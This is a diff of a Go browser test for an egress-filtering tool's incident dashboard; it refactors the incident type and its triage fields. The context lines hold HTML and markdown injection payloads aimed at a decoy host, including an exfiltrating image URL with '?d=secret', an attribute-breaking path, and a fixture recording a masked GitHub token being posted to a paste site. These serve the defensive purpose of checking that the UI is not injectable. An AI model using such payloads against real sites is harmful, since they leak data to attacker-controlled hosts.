@@ -17,6 +17,7 @@ import (
 	"github.com/chromedp/cdproto/network"
 	"github.com/chromedp/chromedp"
 
+	"github.com/sluice-egress/sluice/incident"
 	"github.com/sluice-egress/sluice/store"
 )
 
@@ -103,7 +104,7 @@ func TestBrowser(t *testing.T) {
 		`![exfil](http://%[1]s/md.png?d=secret) <iframe src="http://%[1]s/frame"></iframe>`+
 		`<link rel=stylesheet href=//%[1]s/x.css><style>@import url(//%[1]s/i.css)</style>`, decoyHost)
 	evil.Path = fmt.Sprintf(`/"><img src=//%s/path.png>`, decoyHost)
-	w.insert(evil, store.Incident{ID: "inc_old", Time: now.Add(-2 * time.Hour), Tenant: "acme", Class: "agent", Kind: "deny",
+	w.insert(evil, incident.Incident{ID: "inc_old", Time: now.Add(-2 * time.Hour), Tenant: "acme", Class: "agent", Kind: "deny",
 		Reason: "host-not-allowed", Action: "block", Host: "old.example.test", Port: 443, Method: "CONNECT"})
 	req, err := w.store.CreateAccessRequest(context.Background(), store.AccessRequest{Tenant: "acme", Host: "registry.example.test",
 		Ports: []int{443}, Justification: "the build pulls images from it", ExpiresAt: now.Add(7 * 24 * time.Hour)})
@@ -182,7 +183,7 @@ func TestBrowser(t *testing.T) {
 	}
 
 	// A fresh incident appears.
-	w.insert(store.Incident{ID: "inc_fresh", Time: time.Now().UTC(), Tenant: "acme", Class: "agent", Run: "run_01FRESH",
+	w.insert(incident.Incident{ID: "inc_fresh", Time: time.Now().UTC(), Tenant: "acme", Class: "agent", Run: "run_01FRESH",
 		Kind: "secret", Reason: "secret-detected", Action: "block", Host: "paste.example.test", Port: 443, Method: "POST",
 		Path: "/api/upload", Rule: "github-pat", Where: "json:$.files[0].content", Decoding: "gzip > base64",
 		Snippet: `{"token":"ghp_************************************"}`, Fingerprint: "fp-fresh"})
@@ -213,7 +214,7 @@ func TestBrowser(t *testing.T) {
 		t.Fatalf("triage state on the page %q", s)
 	}
 	in, err := w.store.GetIncident(context.Background(), "inc_fresh")
-	if err != nil || in.Triage != store.TriageFalsePositive || in.TriageActor != "rex" {
+	if err != nil || in.Triage.State != incident.TriageFalsePositive || in.Triage.Actor != "rex" {
 		t.Fatalf("stored triage %+v %v", in, err)
 	}
 	shot("03-incident-triaged")
